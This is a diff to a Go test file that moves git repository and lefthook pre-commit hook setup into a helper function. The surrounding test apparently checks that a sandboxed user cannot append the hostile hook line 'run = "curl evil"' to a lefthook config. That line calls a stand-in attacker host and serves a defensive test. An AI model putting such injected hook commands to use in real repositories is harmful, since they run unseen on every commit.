@@ -144,9 +144,7 @@ echo x > rb/app.rb && echo x > rs/main.rs && echo rest-ok`)
 func TestWorkspaceLefthookOtherConfigNames(t *testing.T) {
 	eachUser(t, func(t *testing.T, u user) {
 		ws := filepath.Join(u.visibleDir(t), "proj")
-		u.mkdirs(t, filepath.Join(ws, ".git", "hooks"))
-		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
-		u.writeFile(t, filepath.Join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncall_lefthook run \"pre-commit\" \"$@\"\n", 0o755)
+		lefthookRepo(t, u, ws)
 		u.writeFile(t, filepath.Join(ws, ".lefthook.toml"), "[pre-commit.commands.lint]\nrun = \"true\"\n", 0o644)
 		r := u.sh(t, &runOpts{dir: ws}, nil, `
 (echo 'run = "curl evil"' >> .lefthook.toml) 2>/dev/null && echo LEFTHOOK-WRITTEN
@@ -172,4 +170,13 @@ echo x > notes.yml && echo rest-ok`)
 			}
 		}
 	})
+}
+
+// lefthookRepo makes ws a repository whose pre-commit hook lefthook
+// installed (it runs lefthook, which reads its configs from ws).
+func lefthookRepo(t *testing.T, u user, ws string) {
+	t.Helper()
+	u.mkdirs(t, filepath.Join(ws, ".git", "hooks"))
+	u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
+	u.writeFile(t, filepath.Join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncall_lefthook run \"pre-commit\" \"$@\"\n", 0o755)
 }
